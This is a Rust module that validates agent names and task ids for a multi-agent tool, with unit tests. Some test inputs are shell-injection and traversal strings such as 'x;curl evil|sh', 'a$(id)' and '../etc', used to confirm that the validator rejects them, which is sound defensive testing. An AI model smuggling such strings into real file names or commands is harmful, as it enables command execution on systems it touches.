//! Validated names: agent names and task ids.
//!
//! A name is checked once, when it enters legio, and from then on is safe to use as a path
//! component, a git branch segment, a tmux session name and a word in a hook command line.
//! The rules are deliberately narrow: ASCII letters, digits, `.`, `_` and `-`, starting with a
//! letter or digit, at most 64 characters, no `..`, not ending in `.` or `.lock` (git ref rules).

use std::fmt;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

/// The longest name legio accepts.
pub const MAX_NAME_LEN: usize = 64;

/// Addresses that mean something to the mail system and so cannot name an agent.
pub const RESERVED_AGENT_NAMES: &[&str] = &["orchestrator", "human", "system", "watchdog", "all"];

/// Why a name was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("invalid {kind} {value:?}: {problem}")]
pub struct NameError {
    /// What was being named ("agent name", "task id").
    pub kind: &'static str,
    /// The rejected input, verbatim.
    pub value: String,
    /// What is wrong with it, in words the user can act on.
    pub problem: String,
}

fn check(kind: &'static str, value: &str) -> Result<(), NameError> {
    let fail = |problem: String| {
        Err(NameError {
            kind,
            value: value.to_owned(),
            problem,
        })
    };
    if value.is_empty() {
        return fail("it is empty".into());
    }
    if value.len() > MAX_NAME_LEN {
        return fail(format!(
            "it is {} characters long; the limit is {MAX_NAME_LEN}",
            value.len()
        ));
    }
    if let Some(bad) = value
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
    {
        let shown = match bad {
            '/' | '\\' => "a path separator".to_owned(),
            c if c.is_whitespace() => "whitespace".to_owned(),
            c if c.is_control() => "a control character".to_owned(),
            c => format!("{c:?}"),
        };
        return fail(format!(
            "it contains {shown}; use only letters, digits, '.', '_' and '-'"
        ));
    }
    let first = value.chars().next().unwrap_or('-');
    if !first.is_ascii_alphanumeric() {
        return fail("it must start with a letter or a digit".into());
    }
    if value.contains("..") {
        return fail("it contains '..'".into());
    }
    let ends_with_lock = value.len() >= 5 && value[value.len() - 5..].eq_ignore_ascii_case(".lock");
    if value.ends_with('.') || ends_with_lock {
        return fail("it must not end with '.' or '.lock' (git refuses such branch names)".into());
    }
    Ok(())
}

macro_rules! validated_name {
    ($(#[$doc:meta])* $ty:ident, $kind:literal, $extra:expr) => {
        $(#[$doc])*
        #[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
        #[serde(transparent)]
        pub struct $ty(String);

        impl $ty {
            /// Validates `value` and wraps it.
            pub fn new(value: impl Into<String>) -> Result<Self, NameError> {
                let value = value.into();
                check($kind, &value)?;
                let extra: fn(&str) -> Option<String> = $extra;
                if let Some(problem) = extra(&value) {
                    return Err(NameError { kind: $kind, value, problem });
                }
                Ok(Self(value))
            }

            /// The name as text.
            pub fn as_str(&self) -> &str {
                &self.0
            }
        }

        impl fmt::Display for $ty {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str(&self.0)
            }
        }

        impl AsRef<str> for $ty {
            fn as_ref(&self) -> &str {
                &self.0
            }
        }

        impl FromStr for $ty {
            type Err = NameError;
            fn from_str(s: &str) -> Result<Self, Self::Err> {
                Self::new(s)
            }
        }

        impl TryFrom<String> for $ty {
            type Error = NameError;
            fn try_from(s: String) -> Result<Self, Self::Error> {
                Self::new(s)
            }
        }

        impl<'de> Deserialize<'de> for $ty {
            fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
                let s = String::deserialize(d)?;
                Self::new(s).map_err(serde::de::Error::custom)
            }
        }
    };
}

validated_name!(
    /// The name of an agent: its mailbox, worktree directory, branch segment and session name.
    AgentName,
    "agent name",
    |v| RESERVED_AGENT_NAMES
        .contains(&v)
        .then(|| format!("{v:?} is a reserved mail address; pick another name"))
);

validated_name!(
    /// The id of a task in the tracker; also a branch segment and a spec file name.
    TaskId,
    "task id",
    |_| None
);

/// Turns a project name into something tmux keeps verbatim in a session name.
///
/// tmux rewrites `.` and `:` in session names; anything outside `[A-Za-z0-9_-]` becomes `_`
/// here so that the name legio records is the name tmux reports.
pub fn tmux_safe(value: &str) -> String {
    let cleaned: String = value
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '-' || c == '_' {
                c
            } else {
                '_'
            }
        })
        .collect();
    if cleaned.is_empty() {
        "project".to_owned()
    } else {
        cleaned
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accepts_ordinary_names() {
        for ok in ["builder-1", "scout_a", "lead.auth", "B2", "legio-abc1", "x"] {
            assert!(AgentName::new(ok).is_ok(), "{ok} should be accepted");
            assert!(TaskId::new(ok).is_ok(), "{ok} should be accepted");
        }
    }

    #[test]
    fn rejects_unsafe_names_with_a_reason() {
        let cases = [
            ("", "empty"),
            ("../etc", "path separator"),
            ("a/b", "path separator"),
            ("..", "start with a letter"),
            ("-rf", "start with a letter"),
            (".hidden", "start with a letter"),
            ("x;curl evil|sh", "';'"),
            ("a b", "whitespace"),
            ("a$(id)", "'$'"),
            ("a`id`", "'`'"),
            ("a..b", "'..'"),
            ("name.", "end with"),
            ("name.lock", "end with"),
            ("naïve", "'ï'"),
        ];
        for (input, needle) in cases {
            let err = AgentName::new(input).expect_err(input);
            assert!(
                err.to_string().contains(needle),
                "{input:?}: {err} should mention {needle}"
            );
        }
        let long = "a".repeat(MAX_NAME_LEN + 1);
        assert!(AgentName::new(long).unwrap_err().problem.contains("limit"));
        assert!(AgentName::new("a".repeat(MAX_NAME_LEN)).is_ok());
    }

    #[test]
    fn reserved_addresses_are_not_agent_names_but_may_be_task_ids() {
        assert!(AgentName::new("orchestrator").is_err());
        assert!(TaskId::new("human").is_ok());
    }

    #[test]
    fn deserialising_validates() {
        let bad: Result<AgentName, _> = serde_json::from_str("\"a/b\"");
        assert!(bad.is_err());
        let good: AgentName = serde_json::from_str("\"ok-1\"").unwrap();
        assert_eq!(good.as_str(), "ok-1");
    }

    #[test]
    fn tmux_safe_replaces_what_tmux_rewrites() {
        assert_eq!(tmux_safe("socket.io"), "socket_io");
        assert_eq!(tmux_safe("a:b c"), "a_b_c");
        assert_eq!(tmux_safe(""), "project");
        assert_eq!(tmux_safe("my-proj_1"), "my-proj_1");
    }
}
